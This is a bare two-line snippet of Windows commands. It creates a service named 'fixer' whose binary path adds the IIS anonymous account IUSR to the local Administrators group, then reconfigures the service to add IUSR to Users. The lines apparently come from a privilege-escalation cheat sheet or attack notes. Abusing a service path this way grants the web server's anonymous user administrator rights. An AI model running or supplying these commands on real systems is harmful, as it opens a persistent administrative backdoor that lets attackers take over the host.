New-Service -Name fixer -BinaryPathName 'cmd /c net localgroup Administrators IUSR /add'
sc.exe config fixer binPath= "cmd /c net localgroup Users IUSR /add"
